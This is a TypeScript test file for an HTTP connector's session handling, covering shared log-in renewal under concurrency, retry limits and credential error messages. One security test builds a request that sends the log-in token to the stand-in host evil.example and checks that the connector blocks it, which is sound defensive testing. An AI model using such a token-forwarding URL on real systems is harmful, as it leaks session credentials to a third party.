import assert from "node:assert/strict";
import type { ServerResponse } from "node:http";
import test from "node:test";
import type { SessionPlan } from "../compile/plan.js";
import { Fault } from "../faults/fault.js";
import { acme, acmeSide, expression, request, step, template } from "./acme.test.support.js";
import { openSystem } from "./open-system.js";

interface Answer {
  readonly status?: number;
  readonly body?: unknown;
}

const login = request("/token", { method: "POST" });
const sessionOf = (more: Partial<SessionPlan> = {}): SessionPlan => ({
  name: "login",
  steps: [step({ request: login, as: "login" })],
  headers: template({ Authorization: "${ session.login.token }" }),
  renewIf: expression("status = 401 or body.error = 'expired'"),
  ...more,
});

/**
 * A system with a session.
 *
 * @param onLogin the answer to the n-th log-in
 * @param on the answer to any other request with the token that it carries
 */
async function opened(
  t: test.TestContext,
  onLogin: (count: number) => Answer | Promise<Answer>,
  on: (path: string, token: string) => Answer | Promise<Answer>,
  plan = sessionOf(),
) {
  let logins = 0;
  const say = (response: ServerResponse, { status = 200, body = {} }: Answer) =>
    response.writeHead(status).end(JSON.stringify(body));
  const side = await acme(
    t,
    async ({ url = "", headers }, response) => {
      if (url === "/token") {
        logins += 1;
        say(response, await onLogin(logins));
      } else say(response, await on(url, headers.authorization ?? ""));
    },
    { hosts: ["evil.example"], options: { concurrency: 32 } },
  );
  const plain = acmeSide();
  const system = await openSystem(plain, {}, side.client, false, [plan]);
  const ask = async (path: string) => (await system.ask(request(path), {})).body;
  return { ask, asked: side.asked, count: () => logins };
}

const token = (count: number): Answer => ({ body: { token: `t${count}` } });
const ended: Answer = { status: 401, body: { error: "ended" } };
const isFault = (code: string, message: RegExp) => (error: unknown) =>
  error instanceof Fault && error.code === code && message.test(`${error.message} ${error.hint}`);

for (const [what, endsOthers] of [
  ["where a log-in ends the session before it", true],
  ["where sessions stand side by side", false],
] as const) {
  test(`many requests that notice the end share one log-in, ${what}`, async (t) => {
    const good = new Set<string>();
    let served = 0;
    let refused = 0;
    let allNoticed = () => {};
    const noticed = new Promise<void>((resolve) => {
      allNoticed = resolve;
    });
    const { ask, count } = await opened(
      t,
      async (number) => {
        if (endsOthers) good.clear();
        good.add(`t${number}`);
        // The second log-in is answered when all others have noticed, too.
        if (number === 2) await noticed;
        return token(number);
      },
      (_, carried) => {
        if (carried === "t1" && !good.has(carried)) {
          refused += 1;
          if (refused === 13) allNoticed();
          return ended;
        }
        if (!good.has(carried)) return ended;
        served += 1;
        if (served === 4) good.clear();
        return { body: { served: carried } };
      },
    );
    await ask("/first");
    const answers = await Promise.all(Array.from({ length: 16 }, (_, id) => ask(`/people/${id}`)));
    assert.equal(answers.filter((answer) => JSON.stringify(answer) === '{"served":"t2"}').length, 13);
    assert.equal(count(), 2);
  });
}

test("an answer that says again that the session has ended is never data, and the log-ins have an end", async (t) => {
  let isGood = true;
  const { ask, count } = await opened(t, token, () => (isGood ? {} : { body: { error: "expired" } }));
  await ask("/first");
  isGood = false;
  const hint = /session counts as ended again, after 3 log-ins in a row.*another program/;
  await assert.rejects(ask("/people"), isFault("HTTP_SESSION", hint));
  assert.equal(count(), 3);
  // Who asks next is told so, too, and a success begins to count anew.
  await assert.rejects(ask("/people"), isFault("HTTP_SESSION", hint));
  assert.equal(count(), 3);
  isGood = true;
  await ask("/people");
});

test("one request that is never let through does not log in for ever while others are", async (t) => {
  const { ask, count } = await opened(t, token, (path) => (path === "/never" ? ended : {}));
  await ask("/first");
  const never = assert.rejects(ask("/never"), isFault("HTTP_SESSION", /Acme answered 401 to GET \/never/));
  await Promise.all([never, ...Array.from({ length: 8 }, (_, id) => ask(`/people/${id}`))]);
  assert.ok(count() <= 4, `${count()} log-ins`);
});

test("a session that never worked is renewed once: inside 200 it is said what happened", async (t) => {
  const { ask, count } = await opened(t, token, () => ({ body: { error: "expired" } }));
  await assert.rejects(ask("/people"), isFault("HTTP_SESSION", /right after the log-in/));
  assert.equal(count(), 2);
});

test("a log-in that is refused inside 200 refuses the credentials", async (t) => {
  const accept = expression("accepted and $exists(body.token)");
  const steps = [step({ request: { ...login, accept }, as: "login" })];
  const { ask } = await opened(
    t,
    () => ({ body: { error: "bad password" } }),
    () => ({}),
    sessionOf({ steps }),
  );
  await assert.rejects(
    ask("/people"),
    isFault("HTTP_CREDENTIALS", /Check the credentials under `connector_auth`/),
  );
});

test("a log-in that breaks off, is out of order or leads elsewhere says nothing of credentials, nor of what was written", async (t) => {
  for (const [status, message] of [
    [504, /answered 504 to POST \/token/],
    [301, /answered 301 to POST/],
  ] as const) {
    const { ask } = await opened(
      t,
      () => ({ status }),
      () => ({}),
    );
    await assert.rejects(ask("/people"), (error) => {
      const { details, hint = "" } = error as Fault;
      assert.doesNotMatch(hint, /credentials/);
      return details.outcomeUnknown === undefined && isFault("HTTP_REFUSED", message)(error);
    });
  }
});

test("S7: what a log-in answers goes to no foreign host", async (t) => {
  const next = request("https://evil.example/x?t=${ login.token }");
  const steps = [step({ request: login, as: "login" }), step({ request: next, as: "more" })];
  const { ask, asked } = await opened(t, token, () => ({}), sessionOf({ steps }));
  await assert.rejects(
    ask("/people"),
    isFault("HTTP_FORBIDDEN_ADDRESS", /log-in of acme leads to evil\.example/),
  );
  assert.deepEqual(asked, ["POST /token"]);
});
